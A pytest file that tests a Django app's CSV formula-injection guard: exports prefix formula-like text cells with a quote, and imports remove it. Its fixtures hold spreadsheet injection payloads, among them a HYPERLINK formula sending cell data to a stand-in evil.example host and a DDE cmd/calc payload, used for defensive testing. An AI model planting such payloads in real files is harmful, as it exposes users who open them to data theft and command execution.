"""CSV injection (issue 9, item 7): every export guards a text cell a spreadsheet would run as a
formula with a leading ``'``; every import takes exactly that ``'`` off again, so an export
imports back to the same values. Numbers, amounts and times are never touched."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from leads.models import Lead
from sync.csvio import export_csv, read_csv
from sync.interchange import DECIMAL, Column, Spec
from sync.models import ImportJob
from sync.resources import RESOURCES, Resource
from sync.services import import_job_create
from workspaces.csvsafe import FORMULA_STARTS, formula_guarded, formula_unguarded
from workspaces.scoping import workspace_scope

from .api_helpers import API, key_client, send_bulk, statuses

NAMES = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", "'quoted"]


@pytest.fixture
def hostile(workspace):
    """Three leads whose names a spreadsheet would run (or that begin with the guard itself),
    one with a formula for a title, and one whose email begins with '-' (a valid address)."""
    records = [
        {"external_id": f"L-{i}", "email": f"p{i}@acme.test", "first_name": name, "last_name": "-Smith"}
        for i, name in enumerate(NAMES)
    ]
    records.append({"external_id": "@L-4", "email": "-dash@acme.test", "title": "@SUM(1+1)"})
    assert statuses(send_bulk(key_client(workspace), "leads", records)) == ["created"] * 4
    return workspace


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _browser_export(client, member_factory, workspace) -> str:
    client.force_login(member_factory(workspace, role="admin").user)
    response = client.get(reverse("export", args=[workspace.slug, "leads"]))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def _api_export(workspace) -> str:
    response = key_client(workspace, scope="read").get(f"{API}/leads/export/")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def _command_export(workspace, capsys) -> str:
    capsys.readouterr()
    call_command("export_csv", "leads", workspace=workspace.slug)
    return capsys.readouterr().out


@pytest.mark.parametrize("door", ["browser", "api", "command"])
def test_every_export_guards_cells_a_spreadsheet_would_run(hostile, client, member_factory, capsys, door):
    if door == "browser":
        text = _browser_export(client, member_factory, hostile)
    elif door == "api":
        text = _api_export(hostile)
    else:
        text = _command_export(hostile, capsys)
    rows = {row["external_id"]: row for row in _rows(text)}
    assert [rows[f"L-{i}"]["first_name"] for i in range(3)] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1)',
        "'+cmd|' /C calc'!A0",
        "''quoted",
    ]
    assert rows["L-0"]["last_name"] == "'-Smith"
    assert rows["'@L-4"]["email"] == "'-dash@acme.test"
    assert rows["'@L-4"]["title"] == "'@SUM(1+1)"
    # numbers and times are never guarded, text that needs no guard is left alone
    assert rows["L-0"]["score"] == "0"
    assert rows["L-0"]["updated_at"][:2] == "20"
    assert rows["L-0"]["email"] == "p0@acme.test"


def test_an_export_with_formulas_imports_back_unchanged(hostile, capsys, tmp_path):
    path = tmp_path / "leads.csv"
    path.write_text(_command_export(hostile, capsys))
    call_command("import_csv", "leads", str(path), workspace=hostile.slug, stderr=io.StringIO())
    assert "leads: 4 rows: 0 created, 0 updated, 4 unchanged, 0 refused" in capsys.readouterr().out
    with workspace_scope(hostile):
        leads = {lead.external_id: lead for lead in Lead.objects.all()}
    assert [leads[f"L-{i}"].first_name for i in range(3)] == NAMES
    assert (leads["@L-4"].email, leads["@L-4"].title) == ("-dash@acme.test", "@SUM(1+1)")


def test_a_browser_export_with_formulas_imports_back_unchanged_as_a_browser_job(
    hostile, client, member_factory, django_capture_on_commit_callbacks
):
    content = _browser_export(client, member_factory, hostile).encode()
    with workspace_scope(hostile), django_capture_on_commit_callbacks(execute=True):
        job = import_job_create(workspace=hostile, resource="leads", filename="leads.csv", content=content)
    job = ImportJob.objects.with_scopes_disabled().get(pk=job.pk)
    assert (job.status, job.counts) == ("done", {"created": 0, "updated": 0, "unchanged": 4, "error": 0})


def test_the_import_takes_off_only_the_guard_an_export_puts_on(workspace):
    header = "external_id,email,first_name,last_name,title\n"
    content = (header + "L-1,a@acme.test,'=1+1,'hello,''=x\n").encode()
    _, rows = read_csv(content, RESOURCES["leads"].spec)
    (row,) = rows
    # "'hello" was never guarded by an export (it would have been "''hello"): it stays as sent
    assert (row["first_name"], row["last_name"], row["title"]) == ("=1+1", "'hello", "'=x")


def test_the_guard_is_decided_by_the_columns_kind_not_by_the_cells_look(workspace):
    """The same value read as text is guarded, read as an amount it is not."""
    spec = Spec(resource="probe", columns=(Column("as_text"), Column("as_amount", DECIMAL)))
    probe = Resource("probe", "probe", spec, Lead, ("id", "first_name", "first_name"), Lead.objects.all, None)
    send_bulk(key_client(workspace), "leads", [{"email": "p@acme.test", "first_name": "-5"}])
    with workspace_scope(workspace):
        (row,) = _rows("".join(export_csv(probe)))
    assert (row["as_text"], row["as_amount"]) == ("'-5", "-5")


def test_every_text_column_and_no_other_is_guarded():
    kinds = {}
    for resource in RESOURCES.values():
        for column in (*resource.spec.columns, *resource.spec.output_only):
            kinds[(resource.name, column.name)] = column.name in resource.spec.text_names
    assert kinds[("leads", "first_name")] and kinds[("leads", "email")] and kinds[("leads", "stage")]
    assert kinds[("opportunities", "lost_reason")] and kinds[("contracts", "renews_id")]
    assert not any(
        kinds[key]
        for key in [
            ("accounts", "employees"),
            ("opportunities", "amount"),
            ("opportunities", "created_at"),
            ("campaigns", "start_date"),
            ("leads", "score"),
            ("leads", "updated_at"),
        ]
    )


@settings(max_examples=200, derandomize=True, deadline=None)
@given(st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "a", " ", "1"]), max_size=6) | st.text(max_size=6))
def test_the_guard_comes_off_exactly(text):
    guarded = formula_guarded(text)
    assert formula_unguarded(guarded) == text
    assert not guarded.startswith(FORMULA_STARTS[:-1])  # '=', '+', '-', '@', tab, CR never lead
